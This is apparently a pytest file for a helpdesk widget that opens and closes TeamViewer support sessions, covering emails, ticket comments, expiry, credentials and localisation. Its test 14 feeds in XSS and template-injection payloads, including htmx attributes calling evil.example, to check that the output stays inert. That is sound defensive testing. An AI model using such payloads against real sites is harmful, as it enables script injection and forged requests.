"""The widget end to end over the sandbox: play, details, email, stop, comment, guard ."""
import email
import json
import re
from email import policy
from html.parser import HTMLParser

import sqlalchemy as sa
from freezegun import freeze_time

from tvwidget.extensions import db
from tvwidget.storage.models import AuditEvent, Comment, ServiceCase

from ..conftest import HOST_API_KEY, connect, credential_of, open_widget, ticket_claim
from ..helpers import admin_client

API = {"Authorization": f"Bearer {HOST_API_KEY}"}
CODE_RE = re.compile(r"^s\d{1,3}(-\d{3}){2}$")


def test_disconnected_widget_says_so_and_offers_no_play(client, launch):
    widget = launch()
    assert widget.state() == "disconnected"
    assert 'data-tvwidget-action="play"' not in widget.html
    assert "Ask an administrator to connect TeamViewer" in widget.html


def test_disconnected_widget_tells_admins_where_to_connect(client, launch):
    widget = launch(role="admin")
    assert "paste a TeamViewer script token" in widget.html


def test_idle_widget_shows_enabled_play(connected_app, launch):
    widget = launch()
    assert widget.state() == "idle"
    assert re.search(r'<button[^>]*data-tvwidget-action="play"(?![^>]*\sdisabled[\s>=])', widget.html)


def test_play_opens_a_case_with_code_links_and_expiry(connected_app, launch, smtp):
    widget = launch()
    response = widget.play()
    assert response.status_code == 200
    assert widget.state() == "open"
    assert CODE_RE.match(widget.field("session-code"))
    assert re.search(r'data-tvwidget-field="valid-until" datetime="\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ"', widget.html)
    supporter = re.search(r'<a data-tvwidget-field="supporter-link" href="([^"]+)" target="_blank" rel="noopener',
                          widget.html)
    customer = re.search(r'<a data-tvwidget-field="customer-link" href="([^"]+)"', widget.html)
    assert supporter and customer and supporter.group(1) != customer.group(1)
    assert 'data-tvwidget-action="stop"' in widget.html
    assert response.headers["Vary"] == "HX-Request"
    assert "<html" not in response.text  # an htmx fragment, not a page


def test_play_records_the_case_with_ticket_snapshot_and_audit(connected_app, launch):
    launch(ticket={"id": "T-9", "subject": "VPN", "category": "Network", "priority": "Urgent",
                   "requester": {"name": "Ann", "email": "ann@example.com"}}).play()
    with connected_app.app_context():
        case = db.session.scalar(sa.select(ServiceCase))
        assert (case.ticket_id, case.state, case.ticket_category, case.ticket_priority) == (
            "T-9", "open", "Network", "Urgent")
        assert case.group_name == "BOSS" and case.opened_by_id == "agent-1"
        kinds = db.session.scalars(sa.select(AuditEvent.kind)).all()
        assert "case_opened" in kinds and "email_sent" in kinds


def test_play_emails_the_requester_the_customer_link_not_the_supporter_link(connected_app, launch, smtp):
    widget = launch()
    widget.play()
    customer = re.search(r'data-tvwidget-field="customer-link" href="([^"]+)"', widget.html).group(1)
    supporter = re.search(r'data-tvwidget-field="supporter-link" href="([^"]+)"', widget.html).group(1)
    (envelope,) = smtp.wait_for(1)
    assert envelope.rcpt_tos == ["john.doe@example.com"]
    raw = envelope.content.decode()
    assert customer in raw and supporter not in raw
    assert 'data-status="sent"' in widget.html


def test_mail_down_keeps_the_case_and_shows_email_failed(app_factory, launch):
    app = app_factory(MAIL_PORT=1)  # nothing listens on port 1
    connect(app)
    client = app.test_client()
    from ..conftest import Widget, make_token
    widget = Widget(client, client.get("/embed/widget", query_string={"token": make_token()}).text)
    response = widget.play()
    assert response.status_code == 200
    assert widget.state() == "open"
    # Connection refused is temporary: still pending, retried by the outbox, and the agent is told so.
    assert 'data-tvwidget-field="email-status" data-status="pending"' in widget.html
    assert 'role="alert"' in widget.html and "will try again automatically" in widget.html
    with app.app_context():
        assert db.session.scalar(sa.select(ServiceCase.state)) == "open"
        assert "email_failed" in db.session.scalars(sa.select(AuditEvent.kind)).all()


def test_ticket_without_valid_requester_address_still_opens_a_case(connected_app, launch, smtp):
    from ..conftest import ticket_claim
    widget = launch(ticket=ticket_claim(requester={"name": "No Mail", "email": "not-an-address"}))
    widget.play()
    assert widget.state() == "open"
    assert "no valid requester address" in widget.html
    assert smtp.messages == []


def test_second_press_shows_the_existing_case(connected_app, launch):
    first, second = launch(), launch(sub="agent-2", name="Bo")
    first.play()
    second.play()
    assert first.field("session-code") == second.field("session-code")
    with connected_app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ServiceCase)) == 1


def test_same_click_twice_is_one_case(connected_app, launch):
    widget = launch()
    html = widget.html
    widget.play()
    widget.html = html  # the same button, same idempotency key, pressed again
    widget.play()
    with connected_app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ServiceCase)) == 1


def test_stop_closes_case_and_comments_start_end_duration(connected_app, launch, client):
    with freeze_time("2026-11-24 00:59:50", tick=True) as frozen:
        widget = launch()
        # The clock ticks: start from the second the test names.  Forward only: a credential
        # issued "in the future" is refused (itsdangerous), as a clock going back would be.
        frozen.move_to("2026-11-24 01:00:00")
        widget.play()
        code = widget.field("session-code")
        frozen.move_to("2026-11-24 01:12:34")
        response = widget.stop()
    assert response.status_code == 200
    assert widget.state() == "idle"
    assert 'data-tvwidget-action="play"' in widget.html
    comments = client.get("/api/v1/tickets/T-1/comments", headers=API).get_json()["comments"]
    assert len(comments) == 1
    body = comments[0]["body"]
    assert code in body and "Alex Morgan" in body
    assert "Start: Nov 24, 2026, 10:00:00" in body  # Asia/Tokyo, the token's tz
    assert "End: Nov 24, 2026, 10:12:34" in body
    assert "Duration: 0:12:34" in body


def test_stop_closes_the_session_at_teamviewer(connected_app, launch, sandbox_url):
    import requests

    widget = launch()
    widget.play()
    code = widget.field("session-code")
    widget.stop()
    remote = requests.get(f"{sandbox_url}/sessions/{code}", headers={"Authorization": "Bearer sandbox-x"}, timeout=5)
    assert remote.json()["state"].lower() == "closed"


def test_two_stops_write_one_comment(connected_app, launch):
    first = launch()
    first.play()
    second = launch()
    first.stop()
    response = second.stop()
    assert 'role="alert"' in second.html and "no open service case" in second.html
    assert response.status_code == 409
    with connected_app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Comment)) == 1


def test_close_guard_refuses_while_case_is_open_and_releases_after_stop(connected_app, launch, client):
    widget = launch()
    widget.play()
    code = widget.field("session-code")
    refused = client.post("/api/v1/tickets/T-1/close", headers=API)
    assert refused.status_code == 409
    body = refused.get_json()
    assert body["error"] == "active_service_case" and code in body["message"]
    assert body["service_case"]["code"] == code
    widget.stop()
    assert client.post("/api/v1/tickets/T-1/close", headers=API).status_code == 200


def test_expired_case_enables_play_releases_guard_and_is_recorded(connected_app, launch, client):
    with freeze_time("2026-11-24 00:59:50", tick=True) as frozen:
        widget = launch()
        widget.play()
        code = widget.field("session-code")
        frozen.move_to("2026-11-25 01:00:01")  # sandbox sessions live exactly 24 h
        refreshed = launch()
        assert refreshed.state() == "expired"
        assert 'data-tvwidget-action="play"' in refreshed.html
        assert client.get("/api/v1/tickets/T-1/service-case", headers=API).status_code == 404
        assert client.post("/api/v1/tickets/T-1/close", headers=API).status_code == 200
    comments = client.get("/api/v1/tickets/T-1/comments", headers=API).get_json()["comments"]
    assert [c["kind"] for c in comments] == ["expired"] and code in comments[0]["body"]


def test_play_after_expiry_opens_a_new_case(connected_app, launch):
    with freeze_time("2026-11-24 00:59:50", tick=True) as frozen:
        widget = launch()
        widget.play()
        old = widget.field("session-code")
        frozen.move_to("2026-11-25 02:00:00")
        widget = launch()
        assert widget.state() == "expired"
        widget.play()
        assert widget.state() == "open" and widget.field("session-code") != old


def test_japanese_widget_uses_seed_terms(connected_app, launch):
    widget = launch(locale="ja")
    widget.play()
    for term in ("セッションコード", "有効期限", "サポータリンク", "カスタマーリンク", "停止"):
        assert term in widget.html, term


def test_status_poll_renews_a_half_spent_credential(connected_app, launch):
    """An agent may watch an open case for hours: past half its life the poll brings a fresh credential."""
    with freeze_time("2026-11-24 00:59:50", tick=True) as frozen:
        widget = launch()
        widget.play()
        code, first = widget.field("session-code"), widget.credential
        headers = {"X-TVWidget-Credential": first, "HX-Request": "true"}
        frozen.move_to("2026-11-24 01:10:00")
        fragment = widget.client.get("/embed/widget/status", query_string={"code": code}, headers=headers)
        assert fragment.status_code == 200 and "HX-Retarget" not in fragment.headers
        assert 'id="tvwidget-status"' in fragment.text and "hx-headers" not in fragment.text
        frozen.move_to("2026-11-24 01:31:00")
        renewed = widget.client.get("/embed/widget/status", query_string={"code": code}, headers=headers)
        assert renewed.status_code == 200 and renewed.headers["HX-Retarget"] == "#tvwidget-widget"
        fresh = credential_of(renewed.text)
        assert fresh != first and 'data-tvwidget-state="open"' in renewed.text
        frozen.move_to("2026-11-24 02:20:00")  # the first credential has expired, the fresh one has not
        assert widget.client.get("/embed/widget/status", query_string={"code": code},
                                 headers=headers).status_code == 401
        later = widget.client.get("/embed/widget/status", query_string={"code": code},
                                  headers={"X-TVWidget-Credential": fresh, "HX-Request": "true"})
        assert later.status_code == 200 and 'id="tvwidget-status"' in later.text


def test_an_unexpected_error_shows_a_clear_page_in_the_frame(app, launch):
    def broken():
        raise RuntimeError("a bug")

    # A route of the widget's blueprint (its endpoint says so) that fails the way a bug would.
    app.add_url_rule("/embed/widget/broken", endpoint="tvwidget.broken", view_func=broken)
    app.config["PROPAGATE_EXCEPTIONS"] = False  # as in production (tests re-raise by default)
    widget = launch()
    response = widget.client.get("/embed/widget/broken", headers={"HX-Request": "true"})
    assert response.status_code == 500
    assert 'role="alert"' in response.text and "unexpected error" in response.text
    assert "Traceback" not in response.text and "a bug" not in response.text
    assert "frame-ancestors" in response.headers["Content-Security-Policy"]


# ==========================================================================================================
# 14. Helpdesk data is inert text in widget fragments and e-mails
# ==========================================================================================================

class Elements(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML document."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)

    def shape(self):
        """The document's skeleton: tags and attribute names, not values."""
        return [(tag, sorted(attrs)) for tag, attrs in self.tags]


HOSTILE = {
    "ticket": '<img src=x onerror=alert(1)>{{7*7}}',
    "subject": '<div hx-get="https://evil.example/x" hx-trigger="load">${x}</div> {{7*7}}',
    "requester": '<img src=x onerror=alert(2)> {customer_link} ${x}',
    "agent": '<b hx-post="https://evil.example/y">Eve</b> {{config}}',
    "note": '<script>alert(3)</script><a href="javascript:alert(4)" hx-boost="true">x</a> ${x} {{7*7}}',
}
BENIGN = {key: f"plain {key} text" for key in HOSTILE}


def _widget_documents(app, values: dict, smtp) -> tuple[list[str], object]:
    """Drive a widget through its states with ``values`` as the helpdesk's data; return its HTML and the e-mail."""
    smtp.messages.clear()
    widget = open_widget(app, name=values["agent"], ticket=ticket_claim(
        values["ticket"], subject=values["subject"],
        requester={"name": values["requester"], "email": "john.doe@example.com"}))
    documents = [widget.html]
    credential = {"X-TVWidget-Credential": widget.credential, "HX-Request": "true"}
    documents.append(widget.play().text)
    documents.append(widget.client.get("/embed/widget/stop", headers=credential).text)
    documents.append(widget.post("stop", {"note": values["note"], "outcome": "resolved"}).text)
    documents.append(widget.client.get("/embed/widget/history", headers=credential).text)
    (envelope,) = smtp.wait_for(1)
    return documents, email.message_from_bytes(envelope.content, policy=policy.default)


def _assert_inert(hostile: Elements, benign: Elements, where: str) -> None:
    assert hostile.shape() == benign.shape(), where  # not one element or attribute more
    for tag, attrs in hostile.tags:
        assert tag != "img" and (tag != "script" or attrs.get("src", "").startswith("/static/tvwidget/")), where
        for name, value in attrs.items():
            assert not name.startswith("on"), where
            if name == "data-tvwidget-events":
                # Not markup: JSON data for the host page, whose strings it receives as event.detail
                # (tvwidget's comment quotes the note). The widget's script only parses and posts it.
                assert all(isinstance(item, str | None) for event in json.loads(value)
                           for item in event["detail"].values()), where
                continue
            assert "evil.example" not in (value or "") and "javascript:" not in (value or ""), (where, name)


def test_14_helpdesk_data_renders_as_inert_text_in_the_widget_and_the_email(tv_app, smtp):
    hostile_pages, hostile_mail = _widget_documents(tv_app, HOSTILE, smtp)
    benign_pages, benign_mail = _widget_documents(tv_app, BENIGN, smtp)
    shown = ""
    for number, (hostile, benign) in enumerate(zip(hostile_pages, benign_pages, strict=True)):
        parsed = Elements(hostile)
        _assert_inert(parsed, Elements(benign), f"widget document {number}")
        shown += "".join(parsed.text)
    for value in (HOSTILE["ticket"], HOSTILE["agent"], HOSTILE["note"]):
        assert value in shown  # shown to the agent, as the very text the helpdesk sent
    html_part = hostile_mail.get_body(("html",)).get_content()
    _assert_inert(Elements(html_part), Elements(benign_mail.get_body(("html",)).get_content()), "e-mail")
    text_part = hostile_mail.get_body(("plain",)).get_content()
    assert HOSTILE["requester"] in text_part and HOSTILE["requester"] in "".join(Elements(html_part).text)
    assert hostile_mail["Subject"].endswith(HOSTILE["subject"])
    assert "49" not in hostile_mail["Subject"] and "{7*7}" not in text_part.replace("{{7*7}}", "")


def test_14_the_htmx_configuration_forbids_eval_foreign_requests_and_history_caching(tv_app, smtp):
    admin = admin_client(tv_app)
    pages = [open_widget(tv_app).html, admin.get("/embed/admin/settings").text,
             admin.get("/embed/admin/email-template").text,
             admin.get("/embed/admin/reports/teamviewer-sessions").text]
    for page in pages:
        metas = [attrs for tag, attrs in Elements(page).tags if tag == "meta" and attrs.get("name") == "htmx-config"]
        assert len(metas) == 1
        config = json.loads(metas[0]["content"])
        assert config["selfRequestsOnly"] is True and config["allowEval"] is False
        assert config["allowScriptTags"] is False and config["historyCacheSize"] == 0
        assert not any(tag == "script" and "src" not in attrs for tag, attrs in Elements(page).tags)


# --- the kept launch page (web/widget.py launch_page) ----------------------------------------------------

_PER_LAUNCH = re.compile(r'("X-TVWidget-Credential": ")[A-Za-z0-9_.-]+"|("idempotency_key": ")[0-9a-f]{32}"')


def _per_launch_values(html: str) -> list[str]:
    return [match.group(0) for match in _PER_LAUNCH.finditer(html)]


def _without_per_launch_values(html: str) -> str:
    return _PER_LAUNCH.sub(lambda match: (match.group(1) or match.group(2)) + '…"', html)


def _kept_and_fresh(app, launch, **claims) -> tuple[str, str]:
    """Launch three times: the second (another agent) comes from the kept page, the third is rendered afresh."""
    first = launch(**claims)
    claims |= {"sub": "agent-2", "name": "Kim <Other>", "email": "kim@helpdesk.example"}
    kept = launch(**claims)
    keys = [value for value in _per_launch_values(first.html) + _per_launch_values(kept.html) if "idempotency" in value]
    assert len(set(keys)) == len(keys)  # a fresh idempotency key on every launch (the credential is fresh too,
    # but two within one second sign the same data alike)
    assert kept.client.get("/embed/widget/panel", headers={"X-TVWidget-Credential": kept.credential,
                                                           "HX-Request": "true"}).status_code == 200
    app.extensions.pop("tvwidget_fragments", None)
    fresh = launch(**claims)
    return kept.html, fresh.html


def test_a_launch_from_the_kept_page_matches_a_fresh_render_with_its_own_credential(connected_app, launch):
    with freeze_time("2026-11-24 00:59:50", tick=True) as frozen:
        for claims in ({}, {"locale": "ja"}, {"role": "admin", "tz": "Asia/Tokyo"}):
            kept, fresh = _kept_and_fresh(connected_app, launch, **claims)
            assert _without_per_launch_values(kept) == _without_per_launch_values(fresh)
            assert 'data-tvwidget-state="idle"' in kept and len(_per_launch_values(kept)) == 2
        launch().play()
        for claims in ({}, {"locale": "ja"}):
            kept, fresh = _kept_and_fresh(connected_app, launch, **claims)
            assert _without_per_launch_values(kept) == _without_per_launch_values(fresh)
            assert 'data-tvwidget-state="open"' in kept and len(_per_launch_values(kept)) == 2
        frozen.move_to("2026-11-25 01:00:01")
        kept, fresh = _kept_and_fresh(connected_app, launch, locale="ja")
        assert _without_per_launch_values(kept) == _without_per_launch_values(fresh)
        assert 'data-tvwidget-state="expired"' in kept


def test_a_second_launch_of_the_same_widget_is_not_rendered_again(connected_app, launch):
    from flask import template_rendered

    rendered = []

    def record(sender, template, context, **extra):
        rendered.append(template.name)

    launch().play()
    with template_rendered.connected_to(record, connected_app):
        launch()
        first = list(rendered)
        rendered.clear()
        launch(sub="agent-2", name="Kim")
    assert "tvwidget/widget.html" in first and rendered == []
    with template_rendered.connected_to(record, connected_app):
        launch(locale="ja")
    assert "tvwidget/widget.html" in rendered  # another language is another page


def test_the_kept_launch_page_follows_the_case_language_zone_role_and_ticket(app, launch):
    assert "Ask an administrator" in launch().html and "Ask an administrator" in launch().html
    assert "paste a TeamViewer script token" in launch(role="admin").html
    connect(app)
    assert launch().state() == "idle"
    launch().play()
    code = launch().field("session-code")
    assert launch().state() == "open" and launch().field("session-code") == code
    assert "セッションコード" in launch(locale="ja").html and "Session code" in launch().html
    assert "Europe/Berlin" in launch(tz="Europe/Berlin").html and "Europe/Berlin" not in launch().html
    other = launch(ticket=ticket_claim(id="T-2"))
    assert other.state() == "idle" and 'data-tvwidget-ticket="T-2"' in other.html
